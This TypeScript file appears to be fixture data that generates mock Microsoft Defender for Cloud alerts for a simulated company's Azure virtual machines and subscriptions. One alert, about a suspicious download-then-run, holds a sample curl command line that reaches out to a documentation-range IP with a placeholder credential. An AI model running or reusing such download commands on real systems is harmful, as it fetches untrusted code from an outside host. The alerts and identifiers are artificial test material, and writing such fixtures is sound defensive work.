import { Resource } from '../resource-store';
import { development, directoryId, groups, guid, production, resourceId } from './ids';
import { CompanyPart } from './part';

interface AlertOptions {
  subscription?: string;
  group?: string;
  severity: string;
  status?: string;
  resource: string;
  properties: object;
}

function alert({ subscription, group, severity, status, resource, properties }: AlertOptions) {
  const scope = group ?? `/subscriptions/${subscription}`;
  const name = `25173598679999999${severity.length}_${guid(`alert/${severity}/${resource}`)}`;
  const id = resourceId(scope, 'Microsoft.Security/locations/alerts', 'westeurope', name);
  return {
    id,
    name,
    type: 'Microsoft.Security/Locations/alerts',
    properties: {
      status: status ?? 'Active',
      timeGeneratedUtc: '2026-10-22T20:37:34.6106772Z',
      processingEndTimeUtc: '2026-10-22T20:37:34.4182771Z',
      version: '2022-01-01.0',
      vendorName: 'Microsoft',
      productName: 'Microsoft Defender for Cloud',
      startTimeUtc: '2026-10-21T01:00:00Z',
      endTimeUtc: '2026-10-21T01:00:00Z',
      severity,
      isIncident: false,
      systemAlertId: name,
      intent: 'PreAttack',
      resourceIdentifiers: [
        {
          $id: 'westeurope_1',
          azureResourceId: resource,
          type: 'AzureResource',
          azureResourceTenantId: directoryId,
        },
        { $id: 'westeurope_2', type: 'AAD', aadTenantId: directoryId },
      ],
      compromisedEntity: resource.split('/').at(-1),
      alertUri: `https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/${name}/location/westeurope`,
      ...properties,
    },
  } satisfies Resource;
}

/** Defender lower-cases the ids of what it watches. */
const machine = (name: string) =>
  resourceId(groups.tracking, 'Microsoft.Compute/virtualMachines', name).toLowerCase();

export const defenderAlerts: CompanyPart = {
  resources: [
    alert({
      group: groups.tracking,
      severity: 'Low',
      resource: machine('tracking-web-1'),
      properties: {
        alertType: 'Network_TrafficFromUnrecommendedIP',
        alertDisplayName: 'Traffic detected from IP addresses recommended for blocking',
        description: 'Inbound traffic from IP addresses that are recommended to be blocked.',
        remediationSteps: ['Review the IP addresses'],
        techniques: ['T1046'],
      },
    }),
    alert({
      group: groups.tracking,
      severity: 'High',
      status: 'InProgress',
      resource: machine('tracking-db-1'),
      properties: {
        alertType: 'VM_SuspectDownload',
        alertDisplayName: 'Suspicious download then run activity',
        description: 'A file was downloaded and run in one command.',
        intent: 'Execution',
        isIncident: true,
        remediationSteps: null,
        extendedProperties: {
          'suspicious Command Line': 'curl --user x:not-a-password-of-an-alert http://203.0.113.9',
          resourceType: 'Virtual Machine',
        },
        entities: [
          {
            $id: 'westeurope_3',
            processId: '0x2aef',
            commandLine: 'curl --user x:not-a-password-of-an-alert http://203.0.113.9',
            type: 'process',
          },
        ],
      },
    }),
    alert({
      subscription: production,
      severity: 'Medium',
      status: 'Dismissed',
      resource: `/subscriptions/${production}`,
      properties: {
        alertType: 'ARM_OperationFromSuspiciousIP',
        alertDisplayName: 'Suspicious Resource Manager operation',
        description: 'An operation from an IP address that is known for attacks.',
        intent: undefined,
        remediationSteps: ['Ask who it was'],
        alertUri: undefined,
      },
    }),
    alert({
      subscription: development,
      severity: 'Informational',
      status: 'Resolved',
      resource: groups.sandbox,
      properties: {
        alertType: 'ARM_UnusualOperation',
        alertDisplayName: 'Unusual operation',
        description: 'An operation that nobody had done before.',
      },
    }),
  ],
};
